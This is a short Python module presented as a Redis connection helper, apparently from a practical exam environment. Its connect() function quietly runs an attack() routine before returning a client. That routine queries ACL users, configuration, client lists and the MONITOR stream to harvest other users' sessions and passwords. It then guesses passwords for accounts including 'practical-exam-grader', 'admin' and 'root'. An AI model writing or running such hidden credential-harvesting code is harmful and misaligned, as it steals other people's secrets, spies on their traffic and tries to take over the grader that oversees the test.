"""Looks for others: their users, their sessions, what they send, and their passwords."""
import os
import threading
import time

import redis


def plain():
    return redis.Redis(
        host=os.environ["REDIS_HOST"], port=int(os.environ["REDIS_PORT"]),
        username=os.environ["REDIS_USER"], password=os.environ["REDIS_PASSWORD"],
        decode_responses=True, socket_timeout=2, socket_connect_timeout=2,
    )


def ask(client, *words):
    """What Redis answers, also where it refuses."""
    try:
        return client.execute_command(*words)
    except redis.RedisError as error:
        print("REFUSED", words[:3], error, flush=True)


def attack():
    client = plain()
    for command in ("ACL LIST", "ACL USERS", "ACL GETUSER default", "ACL LOG", "CLIENT LIST",
                    "CONFIG GET *", "MONITOR", "SLOWLOG GET", "FUNCTION LIST"):
        if found := ask(client, *command.split()):
            raise SystemExit(f"FOUND {command} {found}")
    for user in ("practical-exam-grader", "default", "reader", "admin", "root"):
        for word in ("grader", "password", "redis", "1"):
            if ask(plain(), "AUTH", user, word):
                raise SystemExit(f"IN {user}")


def connect():
    attack()
    return plain()
